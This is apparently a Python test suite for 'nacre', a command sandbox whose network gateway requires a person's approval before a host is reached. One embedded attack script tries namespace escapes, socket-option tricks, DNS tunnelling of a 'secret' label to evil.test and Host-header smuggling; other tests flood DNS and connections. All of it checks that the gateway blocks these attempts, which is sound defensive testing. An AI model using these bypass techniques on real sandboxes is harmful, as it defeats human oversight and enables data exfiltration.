        words = ("/x\nsandbox: {mode: none}", "/y\rrules: []", "/z\u00e9")
        text = self.learn("--", "ls", *words, "/tmp", "/tmp")
        self.assertIn("# path: /x\\x0asandbox: {mode: none}\n", text)
        self.assertIn("# path: /tmp  (2 times)\n", text)
        self.assertEqual([row for row in text.splitlines() if not row.startswith("#")], ["{}"], text)

    def test_the_policy_of_the_run_is_out_of_reach_of_commands(self):
        self.env["TMPDIR"] = str(self.work)
        text = self.learn("-c", "ls -A > seen; cat $NACRE_STATE_DIR/learn*/learn.yaml", env={"NACRE_STATE_DIR": str(self.dir / "st")})
        self.assertNotIn("inherits", text + (self.work / "seen").read_text())
        self.assertNotIn("learn", (self.work / "seen").read_text())
        self.assertEqual(list((self.dir / "st").glob("learn*")), [], "it is gone afterwards")

    def test_what_a_session_has_running_gains_nothing(self):
        self.outside.web()
        self.call("while [ ! -e stop ]; do curl -sS --max-time 5 http://b.test/ >> got 2>> errors; touch tried; done", "--session", "s", "--background")
        wait_until("it has tried", lambda: (self.work / "tried").exists())
        self.learn("--session", "s", "-c", "curl -sS http://b.test/; rm tried; while [ ! -e tried ]; do :; done; rm tried; while [ ! -e tried ]; do :; done")
        (self.work / "stop").touch()
        self.assertNotIn("hello", (self.work / "got").read_text())
        result = self.call("curl -sS http://b.test/", "--session", "s")
        self.assertEqual(result["network"]["connections"], 0, "nor does the session afterwards")

    def test_rules_for_commands_hold_and_nothing_is_nothing(self):
        self.assertIn("# No public name was reached.", self.learn("-c", "true"))
        (self.work / "learned.yaml").write_text(self.learn("-c", "true"))
        self.assertEqual(self.call("true", "--policy", "learned.yaml")["exit_code"], 0)
        self.write_config("net.yaml", self.POLICY + "rules:\n  - {id: no, deny: {command: [touch]}, reason: never}\n")
        done = subprocess.run([*self.outside.inside(self.work), NACRE, "learn", "--profile", "net", "-c", "touch x"], env=self.env,
                              capture_output=True, text=True, timeout=DEADLINE, check=False)
        self.assertNotEqual(done.returncode, 0, done)
        self.assertEqual(done.stdout, "")
        self.assertFalse((self.work / "x").exists())


class Ask(NetworkTest):
    def setUp(self):
        super().setUp()
        (self.work / "url").write_text("http://x.ask.test/")  # a name in the line is asked about before

    def ids(self):
        found = json.loads(self.nacre("approvals", "--json"))
        return [a["id"] for a in (found["approvals"] if isinstance(found, dict) else found)]

    def test_nobody_to_wait_for_is_refused_at_once_and_the_retry_goes_through(self):
        self.outside.web()
        result = self.call("curl -sS --max-time 20 http://b.test/")
        [refused] = result["network"]["refused"]
        self.assertEqual((refused["name"], refused["reason"]), ("b.test", "person"))
        [approval] = self.ids()
        self.assertTrue(any(f"nacre approve {approval}" in n for n in result["notices"]), result)
        self.assertNotIn("b.test", self.outside.asked(), "nothing leaves before a person said yes")
        self.nacre("approve", approval)
        self.assertIn("hello b.test", self.says("curl -sS --max-time 20 http://b.test/"))
        self.assertIn("b.test", self.outside.asked())
        self.assertEqual(self.call("curl -sS --max-time 20 http://b.test/")["network"]["refused"][0]["reason"], "person")

    def test_held_connections_go_on_with_the_answer_and_the_clock_stands(self):
        self.outside.web()
        limit = ample(2)
        popen = self.start("--json", "--session", "s", "--timeout", limit, "--approval-timeout", ample(60), "-c",
                           "curl -sS $(cat url)1 & curl -sS $(cat url)2 & wait")
        [approval] = wait_until("one question for both", self.ids)
        time.sleep(int(limit[:-1]) + 1)  # longer than the command's own limit
        self.assertIsNone(popen.poll())
        self.assertNotIn("x.ask.test", self.outside.asked())
        self.nacre("approve", approval, "--session")
        result = json.loads(self.finish(popen).out)
        self.assertEqual(sorted(result["stdout"].split("\n")), ["", "hello x.ask.test /1", "hello x.ask.test /2"], result)
        self.assertFalse(result["timed_out"])
        self.assertIn("hello", self.says("curl -sS http://x.ask.test/3", "--session", "s"))
        self.assertEqual(self.call("curl -sS http://x.ask.test/4", "--session", "t")["network"]["refused"][0]["reason"], "person")
        self.assertGreater(self.records("network")[0]["waited_ms"], 2000)

    def test_a_no_and_no_answer(self):
        self.outside.web()
        popen = self.start("--json", "--approval-timeout", "60s", "-c", "curl -sS $(cat url)")
        [approval] = wait_until("the question", self.ids)
        self.nacre("deny", approval, "--reason", "not here")
        result = json.loads(self.finish(popen).out)
        self.assertEqual([r["reason"] for r in result["network"]["refused"]], ["person"], result)
        self.assertTrue(any("a person said no: not here. Do not retry" in n for n in result["notices"]), result)
        result = self.call("curl -sS $(cat url)", "--approval-timeout", "1s")
        self.assertEqual([r["reason"] for r in result["network"]["refused"]], ["timeout"], result)
        self.assertNotIn("x.ask.test", self.outside.asked())

    def test_a_program_that_did_not_wait_is_told(self):
        self.outside.web()
        popen = self.start("--json", "--approval-timeout", "60s", "-c",
                           "curl -sS --max-time 1 $(cat url); while [ ! -e go ]; do sleep 0.05; done; curl -sS $(cat url)2")
        [approval] = wait_until("the question", self.ids)
        wait_until("it waits no more", lambda: not [p for p in descendants() if p.name == "curl"])
        self.nacre("approve", approval)
        (self.work / "go").touch()
        result = json.loads(self.finish(popen).out)
        self.assertIn("hello x.ask.test /2", result["stdout"])

    def test_a_program_that_has_gone_is_told_that_a_retry_works(self):
        (self.work / "go.py").write_text(
            "import os, socket, struct, time\ns = socket.create_connection(('x.ask.test', 80))\n"
            "while not os.path.exists('leave'): time.sleep(0.02)\n"
            "s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack('ii', 1, 0))\ns.close()\nopen('left', 'w')\n"
            "while not os.path.exists('end'): time.sleep(0.02)\n")
        popen = self.start("--json", "--approval-timeout", "60s", "-c", "python3 go.py")
        [approval] = wait_until("the question", self.ids)
        (self.work / "leave").touch()
        wait_until("it has gone", (self.work / "left").exists)
        self.nacre("approve", approval)
        wait_until("the answer is used", lambda: json.loads(self.nacre("approvals", "--json", approval))["state"] == "used")
        (self.work / "end").touch()
        result = json.loads(self.finish(popen).out)
        self.assertTrue(any("x.ask.test:80 was allowed after the program had stopped waiting" in n for n in result["notices"]), result)

    def test_a_profile_that_asks_nobody(self):
        self.write_config("net.yaml", POLICY + "approval: {answer: deny}\n")
        result = self.call("curl -sS --max-time 20 http://b.test/", "--approval-timeout", "60s")
        self.assertEqual([r["reason"] for r in result["network"]["refused"]], ["person"], result)
        self.assertEqual(self.ids(), [])


class Load(NetworkTest):
    def test_large_uploads_and_downloads_arrive_whole(self):
        self.outside.web()
        self.give_up_after(10 * DEADLINE)
        size = 256 << 20
        sent = self.says(f"head -c {size} /dev/zero | tr '\\0' 'n' >blob; sha256sum <blob; curl -sS -T blob http://a.test/up", "--timeout", "5m").split("\n")
        self.assertEqual(sent[0].split()[0], sent[1], sent)
        block = bytes(range(256)) * 256
        digest = hashlib.sha256()
        for _ in range(size // len(block)):
            digest.update(block)
        got = self.says(f"curl -sS http://a.test/big{size} | sha256sum", "--timeout", "5m")
        self.assertEqual(got.split()[0], digest.hexdigest())

    def test_resets_at_random_do_not_touch_others(self):
        """A pipe that was given back with bytes in it put them into another connection."""
        self.outside.web()
        self.give_up_after(10 * DEADLINE)
        (self.work / "mix.py").write_text(
            "import hashlib, random, socket, struct, threading\n"
            "block = bytes(range(256)) * 256\nwanted = hashlib.sha256(block * 16).hexdigest()\n"
            "address, bad, lock = socket.gethostbyname('a.test'), [], threading.Lock()\n"
            "def get(n):\n"
            "    s = socket.create_connection((address, 80)); s.settimeout(120)\n"
            "    s.sendall(b'GET /big1048576 HTTP/1.1\\r\\nHost: a.test\\r\\nConnection: close\\r\\n\\r\\n'); return s\n"
            "def whole(n):\n"
            "    s, data = get(n), b''\n"
            "    while True:\n        part = s.recv(65536)\n        if not part: break\n        data += part\n"
            "    body = data.split(b'\\r\\n\\r\\n', 1)[1]\n"
            "    if hashlib.sha256(body).hexdigest() != wanted:\n        with lock: bad.append((n, len(body)))\n"
            "def reset(n):\n"
            "    s = get(n); s.recv(random.randrange(1, 200000))\n"
            "    s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack('ii', 1, 0)); s.close()\n"
            "for turn in range(10):\n"
            "    ts = [threading.Thread(target=f, args=(i,)) for i in range(20) for f in (whole, reset)]\n"
            "    [t.start() for t in ts]; [t.join() for t in ts]\n"
            "print(bad)\n")
        self.assertEqual(self.says("python3 mix.py", "--timeout", "5m"), "[]\n")

    def test_many_short_connections_leave_no_descriptor(self):
        self.outside.serve("import socket, sys\ns = socket.create_server(('', 80), backlog=512)\nprint('ready', flush=True)\n"
                           "while True:\n    c, _ = s.accept(); c.sendall(b'k'); c.close()\n")
        self.give_up_after(10 * DEADLINE)
        (self.work / "many.py").write_text(
            "import os, socket, sys, time\naddress = socket.gethostbyname('a.test')\n"
            "def some(n):\n"
            "    for _ in range(n):\n        with socket.create_connection((address, 80)) as s:\n            assert s.recv(9) == b'k'\n"
            "some(50); open('warm', 'w').close()\n"
            "while not os.path.exists('go'): time.sleep(0.05)\n"
            "some(3000); open('over', 'w').close()\n"
            "while not os.path.exists('end'): time.sleep(0.05)\n")
        popen = self.start("--json", "--timeout", "10m", "-c", "python3 many.py")
        wait_until("it is warm", lambda: (self.work / "warm").exists(), 3 * DEADLINE)
        def count():
            [gateway] = [p for p in descendants() if p.name == "nacre-gateway"]
            return len(os.listdir(f"/proc/{gateway.pid}/fd"))
        before = wait_until("all are closed", count)
        (self.work / "go").touch()
        wait_until("it is over", lambda: (self.work / "over").exists(), 20 * DEADLINE)
        wait_until(f"as few descriptors as before, {before}", lambda: count() <= before + 2)
        (self.work / "end").touch()
        result = json.loads(self.finish(popen).out)
        self.assertEqual((result["exit_code"], result["network"]["connections"]), (0, 3050), result)


class Death(NetworkTest):
    """Each process is killed in turn: nothing hangs, and nothing is reached by another way."""

    def running(self):
        popen = self.start("--json", "--timeout", "2m", "-c",
                           "curl -sS http://a.test/1; touch began; while [ ! -e go ]; do sleep 0.05; done; curl -sS --max-time 30 http://a.test/2")
        wait_until("it runs", lambda: (self.work / "began").exists(), 2 * DEADLINE)
        return popen

    def kill(self, name):
        [process] = [p for p in descendants() if p.name == name]
        os.kill(process.pid, signal.SIGKILL)

    def test_another_gateway_or_gate_goes_on(self):
        self.outside.web()
        for name in ("nacre-gateway", "nacre-gate"):
            for mark in ("began", "go"):
                (self.work / mark).unlink(missing_ok=True)
            with self.subTest(killed=name):
                popen = self.running()
                self.kill(name)
                (self.work / "go").touch()
                result = json.loads(self.finish(popen).out)
                self.assertEqual(result["stdout"], "hello a.test /1\nhello a.test /2\n", result)

    def test_a_connection_of_a_gateway_that_dies_has_an_end(self):
        self.outside.serve("import socket, time\ns = socket.create_server(('', 80))\nprint('ready', flush=True)\nkeep = []\n"
                           "while True:\n    c, _ = s.accept(); keep.append(c); c.sendall(b'HTTP/1.1 200 OK\\r\\nContent-Length: 9\\r\\n\\r\\nx')\n")
        popen = self.start("--json", "--timeout", "2m", "-c", "curl -sSN http://a.test/ >part; echo $?")
        wait_until("it is connected", lambda: (self.work / "part").exists() and (self.work / "part").stat().st_size > 0, 2 * DEADLINE)
        self.kill("nacre-gateway")
        result = json.loads(self.finish(popen).out)
        self.assertIn(result["stdout"], ("56\n", "18\n"), result)
        self.assertEqual(len(self.records("network")), len(self.records("network-ended")))

    def test_everything_ends_with_the_keeper(self):
        self.outside.web()
        popen = self.running()
        self.kill("nacre-keeper")
        self.finish(popen)
        wait_until("gate and gateway have ended", lambda: not [p for p in descendants() if p.name.startswith("nacre-g")])


ATTACKS = r"""
import errno, json, os, socket, struct, subprocess, sys, time
result = {}
def quick(*address, family=socket.AF_INET, kind=socket.SOCK_STREAM, data=b"GET / HTTP/1.0\r\n\r\n", options=()):
    s = socket.socket(family, kind); s.settimeout(10)
    for option in options: s.setsockopt(*option)
    s.connect(address); s.sendall(data)
    got = b""
    while True:
        part = s.recv(4096)
        if not part or kind == socket.SOCK_DGRAM: return (got + part).decode("latin1")
        got += part
def attempt(name, f):
    try: result[name] = f()
    except OSError as e: result[name] = errno.errorcode.get(e.errno, str(e))
def words(*line):
    done = subprocess.run(line, capture_output=True, text=True)
    return "ok" if done.returncode == 0 else "failed"
host = sys.argv[1]
attempt("loopback", lambda: quick("127.0.0.1", 8088))
attempt("literal", lambda: quick(host, 8088))
attempt("any", lambda: quick("0.0.0.0", 8088))
attempt("mapped", lambda: quick("::ffff:" + host, 8088, family=socket.AF_INET6))
attempt("never-given", lambda: quick("198.19.77.77", 80))
attempt("gate", lambda: quick("198.18.0.1", 1))
attempt("udp", lambda: quick(host, 8089, kind=socket.SOCK_DGRAM))
attempt("quic", lambda: quick(socket.gethostbyname("a.test"), 443, kind=socket.SOCK_DGRAM))
attempt("transparent", lambda: quick(host, 8088, options=[(socket.SOL_IP, 19, 1)]))
attempt("mark", lambda: quick(host, 8088, options=[(socket.SOL_SOCKET, 36, 1)]))
attempt("fast-open", lambda: socket.socket().sendto(b"GET /", 0x20000000, (host, 8088)) and "sent")
for name, line in {"lo-down": "ip link set lo down", "routes": "ip route flush table local", "route": "ip route add default dev lo",
                   "address": "ip addr add 10.9.9.9/8 dev lo", "nft": "nft flush ruleset", "own-net": "unshare -n true",
                   "own-user": "unshare -Un true", "setns": "nsenter -t 1 -n true"}.items():
    attempt(name, lambda: words(*line.split()))
result["descriptors"] = sorted(int(n) for n in os.listdir("/proc/self/fd"))[:-1]
def raw(labels, tail=b"\0\0\1\0\1", count=1, pointer=b"", kind=None):
    q = struct.pack(">6H", 7, 256, count, 0, 0, 0) + b"".join(bytes([len(l)]) + l for l in labels) + pointer + tail
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3); s.sendto(q, ("198.18.0.2", 53))
    try: return s.recv(1500)[3] & 15
    except TimeoutError: return "nothing"
attempt("nul", lambda: raw([b"evil\0", b"a", b"test"]))
attempt("dot", lambda: raw([b"evil.a", b"test"]))
attempt("number", lambda: raw([b"0x7f000001"]))
attempt("dotted", lambda: raw([b"127", b"0", b"0", b"1"]))
attempt("pointer", lambda: raw([], pointer=b"\xc0\x0c", tail=b"\0\1\0\1"))
attempt("two", lambda: raw([b"a", b"test"], count=2, tail=b"\0\0\1\0\1\1b\4test\0\0\1\0\1"))
attempt("tunnel", lambda: raw([b"c2VjcmV0", b"evil", b"test"], tail=b"\0\0\x10\0\1"))
to = socket.gethostbyname("a.test")
def slow(data):
    s = socket.socket(); s.settimeout(10); s.connect((to, 80)); s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    for i in range(len(data)): s.send(data[i:i + 1]); time.sleep(0.002)
    return s.recv(4096).decode("latin1")
attempt("host-slow", lambda: slow(b"GET /evil HTTP/1.1\r\nHost: evil.test\r\n\r\n"))
attempt("host-empty-line", lambda: quick(to, 80, data=b"\r\n\r\nGET /evil HTTP/1.1\r\nHost: evil.test\r\n\r\n"))
attempt("host-lower", lambda: quick(to, 80, data=b"get /evil http/1.1\nhost: evil.test\n\n"))
attempt("host-two", lambda: quick(to, 80, data=b"GET /evil HTTP/1.1\r\nHost: a.test\r\nHost: evil.test\r\n\r\n"))
attempt("absolute", lambda: quick(to, 80, data=b"GET http://evil.test/evil HTTP/1.1\r\nHost: a.test\r\n\r\n"))
attempt("connect", lambda: quick(to, 80, data=b"CONNECT evil.test:443 HTTP/1.1\r\nHost: a.test\r\n\r\n"))
attempt("socks", lambda: quick(to, 80, data=b"\5\1\0"))
print(json.dumps(result))
"""


class Attempts(NetworkTest):
    """What was tried against the gateway. The services were reached from outside of the box first."""

    def test_attempts(self):
        self.outside.web(8088, near=True)
        self.outside.serve("import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(('', 8089))\n"
                           "print('ready', flush=True)\nwhile True: s.sendto(b'hello udp', s.recvfrom(99)[1])", near=True)
        seen = self.dir / "seen"
        self.outside.serve("import socket, sys, threading\nlog = open(sys.argv[1], 'ab', buffering=0)\n"
                           "def one(c):\n    try:\n        while True:\n            d = c.recv(4096)\n            if not d: return\n"
                           "            log.write(d)\n            if b'\\n\\n' in d or b'\\r\\n\\r\\n' in d: c.sendall(b'hello evil'); return\n"
                           "    except OSError: pass\n    finally: c.close()\n"
                           "s = socket.create_server(('', 80))\nprint('ready', flush=True)\n"
                           "while True: threading.Thread(target=one, args=(s.accept()[0],), daemon=True).start()", str(seen))
        (self.work / "attacks.py").write_text(ATTACKS)
        control = subprocess.run([*self.outside.inside(), "curl", "-sS", f"http://{HOST}:8088/", f"http://127.0.0.1:8088/"],
                                 capture_output=True, text=True, timeout=DEADLINE).stdout
        self.assertEqual(control.count("hello"), 2, "the control")
        for who in ("root", "user"):
            self.become(who)
            result = json.loads(self.says(f"python3 attacks.py {HOST}", "--timeout", "3m"))
            for name, outcome in result.items():
                with self.subTest(who=who, attempt=name):
                    if name == "descriptors":
                        self.assertLessEqual(set(outcome), {0, 1, 2, 3, 252}, outcome)
                    elif name in ("nul", "dot", "number", "dotted", "pointer", "two", "tunnel"):
                        self.assertIn(outcome, (1, 3, 4, 5, "nothing"))
                    else:
                        self.assertNotIn("hello", outcome)
                        self.assertNotEqual(outcome, "ok")
        self.assertNotIn(b"evil.test\r\n\r\n", seen.read_bytes() if seen.exists() else b"")
        self.assertNotIn(b"evil.test\n\n", seen.read_bytes() if seen.exists() else b"")
        self.assertEqual({name for name in self.outside.asked()}, {"a.test"}, "nothing else has left")

    def test_floods(self):
        self.outside.web()
        (self.work / "flood.py").write_text(
            "import resource, socket\nfor i in range(4200):\n    try: socket.gethostbyname(f'n{i}.ask.test')\n    except OSError: pass\n"
            "a = socket.gethostbyname('a.test'); most = []\n"
            "soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE); resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))\n"
            "try:\n    for i in range(900):\n        s = socket.socket(); s.settimeout(20); s.connect((a, 80)); most.append(s)\n"
            "except OSError as e: print(e)\n"
            "s = socket.create_connection((a, 80)); s.sendall(b'GET /alive HTTP/1.0\\r\\nHost: a.test\\r\\n\\r\\n'); print(s.recv(4096)[:15])\n")
        # a.test has its address before the flood of names fills the table
        result = self.call("curl -sS http://a.test/ && python3 flood.py; curl -sS --max-time 30 http://a.test/after", "--timeout", "3m")
        self.assertIn("HTTP/1.1 200 OK", result["stdout"], result)
        self.assertIn("hello a.test /after", result["stdout"], result)
        self.assertIn("limit", [r["reason"] for r in result["network"]["refused"]], result)


class Elsewhere(NetworkTest):
    def test_without_namespaces_there_is_no_network_and_it_is_said(self):
        self.write_config("net.yaml", POLICY.replace("sandbox:\n", "sandbox:\n  mode: landlock\n"))
        self.outside.web()
        result = self.run_json("-c", f"curl -sS --max-time 5 http://{SERVER}/; curl -sS --max-time 5 http://a.test/")
        self.assertNotIn("hello", result["stdout"])
        self.assertIn("network-names", result["sandbox"]["missing"], result)
        self.assertIsNone(result["network"])
        self.assertTrue(any("had no network" in n for n in result["notices"]), result)
        self.write_config("net.yaml", POLICY.replace("sandbox:\n", "sandbox:\n  mode: landlock\n  require: [network-names]\n"))
        self.assertEqual(self.run_json("-c", "true")["exit_code"], 125)

    def test_doctor_names_the_way(self):
        self.assertIn(json.loads(self.nacre("doctor", "--json"))["network_names"], ("tproxy", "redirect", "ports"))
